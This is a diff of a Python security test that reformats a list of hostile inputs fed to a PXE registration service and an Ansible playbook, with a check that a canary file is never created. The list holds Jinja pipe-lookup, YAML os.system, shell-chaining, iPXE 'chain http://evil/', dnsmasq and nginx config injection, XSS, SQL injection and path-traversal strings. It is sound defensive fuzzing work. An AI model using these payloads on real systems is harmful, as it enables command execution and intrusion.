@@ -60,17 +60,49 @@ class Hostile:
             f"{{{{ lookup('ansible.builtin.pipe', '{touch}') }}}}",
             f"{{% set x = lookup('pipe', '{touch}') %}}",
             f"{{{{ '{touch}' | ansible.builtin.quote }}}}",
-            f"!unsafe {touch}", f"!!python/object/apply:os.system ['{touch}']",
-            f"$({touch})", f"`{touch}`", f"; {touch} #", f"| {touch}", f"&& {touch}",
+            f"!unsafe {touch}",
+            f"!!python/object/apply:os.system ['{touch}']",
+            f"$({touch})",
+            f"`{touch}`",
+            f"; {touch} #",
+            f"| {touch}",
+            f"&& {touch}",
             f"\n{touch}\n",
-            f"'; {touch}; '", f'"; {touch}; "', "${net0/mac}", "#!ipxe\nshell", "shell",
-            "chain http://evil/", "item x || shell", "dhcp-script=/tmp/x", "conf-file=/etc/passwd",
-            "52:54:00:77:00:01,set:x,10.0.0.1", "; } location / { root /; }", "$request_uri",
-            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' OR 1=1 --",
-            "../../../etc/passwd", "..", "/", "\x00", "\x1b]0;x\x07\x1b[2J", "\u202e", "\ufeff",
-            "\ud800", "\U0001f600" * 40, "x" * 129, "x" * 1_000_000, "__import__('os')",
-            "all", "localhost", "image_servers", "img", "null", "-1", "",
-        ]  # fmt: skip
+            f"'; {touch}; '",
+            f'"; {touch}; "',
+            "${net0/mac}",
+            "#!ipxe\nshell",
+            "shell",
+            "chain http://evil/",
+            "item x || shell",
+            "dhcp-script=/tmp/x",
+            "conf-file=/etc/passwd",
+            "52:54:00:77:00:01,set:x,10.0.0.1",
+            "; } location / { root /; }",
+            "$request_uri",
+            "<script>alert(1)</script>",
+            '"><img src=x onerror=alert(1)>',
+            "' OR 1=1 --",
+            "../../../etc/passwd",
+            "..",
+            "/",
+            "\x00",
+            "\x1b]0;x\x07\x1b[2J",
+            "\u202e",
+            "\ufeff",
+            "\ud800",
+            "\U0001f600" * 40,
+            "x" * 129,
+            "x" * 1_000_000,
+            "__import__('os')",
+            "all",
+            "localhost",
+            "image_servers",
+            "img",
+            "null",
+            "-1",
+            "",
+        ]
         self.taken = [text for text in self.texts if text.isprintable() and len(text) <= 128]
 
     def words(self, chance: float) -> Any:
@@ -126,10 +158,14 @@ def goes_in(queue: Registrations, data: bytes, number: int) -> dict[str, Any] | 
         report = RegistrationRequest.model_validate_json(data)
         found, _ = asyncio.run(
             queue.report(
-                tuple(report.macs), report.name, report.hardware.model_dump(),
-                report.agent_version, report.nonce, f"10.0.{number >> 8 & 255}.{number & 255}",
+                tuple(report.macs),
+                report.name,
+                report.hardware.model_dump(),
+                report.agent_version,
+                report.nonce,
+                f"10.0.{number >> 8 & 255}.{number & 255}",
             )
-        )  # fmt: skip
+        )
     except (ValidationError, ServiceError):
         return None
     view = queue.view(found)
@@ -206,9 +242,12 @@ def test_no_words_of_a_pc_are_more_than_words(tmp_path: Path) -> None:
     variables = [f"-e{key}={value}" for key, value in {"root": ROOT, "out": out}.items()]
     done = subprocess.run(
         [Path(sys.executable).with_name("ansible-playbook"), *command[1:], *variables],
-        cwd=ROOT, capture_output=True, text=True, check=False,
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        check=False,
         env={**os.environ, "ANSIBLE_CONFIG": str(ROOT / "ansible.cfg")},
-    )  # fmt: skip
+    )
     assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
     assert not canary.exists()
     assert "touch" in (out / "all.json").read_text()
